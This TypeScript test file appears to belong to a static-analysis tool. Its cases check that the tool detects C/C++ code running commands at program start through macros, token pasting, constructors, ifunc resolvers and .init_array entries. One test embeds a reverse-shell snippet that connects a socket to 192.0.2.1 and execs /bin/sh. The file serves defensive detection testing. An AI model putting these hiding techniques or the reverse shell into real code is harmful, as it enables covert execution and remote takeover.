import { beforeAll, expect, test } from "vitest";
import type { CodeContext } from "../../../../src/review/code/run.ts";
import {
  described,
  factsOf,
  isCapability,
  isFlow,
  loadContext,
} from "../../../conformance/harness.ts";

let context: CodeContext;
beforeAll(async () => {
  context = await loadContext();
});

test.each([
  ["a constant of the preprocessor", `#define CMD "id"\nint main() { system(CMD); }`],
  ["another name for a function", `#define RUN system\nint main() { RUN("id"); }`],
  ["a macro that is called", `#define RUN(x) system(x)\nint main() { RUN("id"); }`],
  ["a name that is pasted", `#define P(a, b) a##b\nint main() { P(sys, tem)("id"); }`],
  ["a name over two lines", `int main() { sys\\\ntem("id"); }`],
  [
    "either of two definitions",
    `#ifdef A\n#define RUN system\n#else\n#define RUN puts\n#endif\nint main() { RUN("id"); }`,
  ],
  ["a constructor", `__attribute__((constructor)) void f(void) { system("id"); }`],
  [
    "the resolver of an indirect function",
    `void *pick(void) { system("id"); return 0; }\nint crc(int) __attribute__((ifunc("pick")));`,
  ],
  [
    "a function in the list of those that run first",
    `static void f(void) { system("id"); }\n__attribute__((section(".init_array"))) void *p = f;`,
  ],
  ["an object whose making does it", `struct A { A() { system("id"); } };\nstatic A a;`],
  ["a value of a variable of the file", `static int x = system("id");`],
  ["a test of a framework", `TEST(Suite, Name) { system("id"); }`],
  [
    "a method that stands outside of its class",
    `class A { public: void go(); };\nvoid A::go() { system("id"); }\nint main() { A a; a.go(); }`,
  ],
])("%s runs when the program starts", (_, text) => {
  const facts = factsOf("c", text, context);
  const runs = { capability: "execute.process" as const, target: "id", atLoad: true };
  expect(
    facts.some((fact) => isCapability(fact, runs)),
    described(facts).join("\n"),
  ).toBe(true);
});

test("a shell that is given a connection is connected with where it leads", () => {
  for (const start of [
    `execl("/bin/sh", "sh", (char *)NULL);`,
    `char *v[] = {"/bin/sh", NULL}; execve("/bin/sh", v, NULL);`,
    `execlp("/bin/sh", "-sh", NULL);`,
  ]) {
    const text = `int main() { int s = socket(2, 1, 0); struct sockaddr_in a; inet_pton(2, "192.0.2.1", &a.sin_addr); connect(s, (struct sockaddr *)&a, sizeof a); dup2(s, 0); ${start} }`;
    const facts = factsOf("c", text, context);
    const flow = {
      from: "network.receive" as const,
      to: "execute.process" as const,
      source: "192.0.2.1",
      destination: "/bin/sh",
    };
    expect(
      facts.some((fact) => isFlow(fact, flow)),
      described(facts).join("\n"),
    ).toBe(true);
  }
});

test("a program whose output goes into a pipe is given no connection", () => {
  const text = `int main() { int p[2]; pipe(p); dup2(p[1], 1); execl("/bin/sh", "sh", NULL); }`;
  const facts = factsOf("c", text, context);
  const flow = { from: "network.receive" as const, to: "execute.process" as const };
  expect(facts.some((fact) => isFlow(fact, flow))).toBe(false);
});
